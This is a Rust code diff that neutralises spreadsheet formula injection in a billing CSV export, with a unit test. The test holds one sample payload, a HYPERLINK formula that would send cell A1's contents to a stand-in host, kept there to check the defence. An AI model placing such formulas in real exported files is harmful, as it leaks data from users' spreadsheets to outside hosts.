@@ -36,6 +36,16 @@ fn csv_field(s: &str) -> String {
     }
 }
 
+/// A text field from a channel's bill (untrusted): one a spreadsheet would read as a formula
+/// (`=`, `+`, `-`, `@`, tab, carriage return first) is prefixed with `'` and quoted.
+fn csv_text(s: &str) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("\"'{}\"", s.replace('"', "\"\""))
+    } else {
+        csv_field(s)
+    }
+}
+
 fn opt<T: ToString>(v: &Option<T>) -> String {
     v.as_ref().map(|v| v.to_string()).unwrap_or_default()
 }
@@ -71,7 +81,18 @@ pub fn items_csv(r: &AccountReport) -> String {
             i.resolution.clone(),
             opt(&i.resolved_by),
         ];
-        let line: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
+        // Numbers stay as they are (a negative amount starts with `-`); the texts are neutralised.
+        let line: Vec<String> = fields
+            .iter()
+            .enumerate()
+            .map(|(n, f)| {
+                if (2..=4).contains(&n) {
+                    csv_text(f)
+                } else {
+                    csv_field(f)
+                }
+            })
+            .collect();
         out.push_str(&line.join(","));
         out.push('\n');
     }
@@ -323,4 +344,26 @@ pub fn summary_table(d: &DayReport) -> String {
         );
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{csv_field, csv_text};
+
+    #[test]
+    fn bill_texts_that_a_spreadsheet_would_run_are_neutralised() {
+        assert_eq!(
+            csv_text("=HYPERLINK(\"http://x/?\"&A1,\"ok\")"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"ok\"\")\""
+        );
+        for s in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(csv_text(s).starts_with("\"'"), "{s}");
+        }
+        assert_eq!(
+            csv_text("4200000202612034235452147149"),
+            "4200000202612034235452147149"
+        );
+        assert_eq!(csv_text("a,b"), "\"a,b\"");
+        assert_eq!(csv_field("-100"), "-100");
+    }
 }
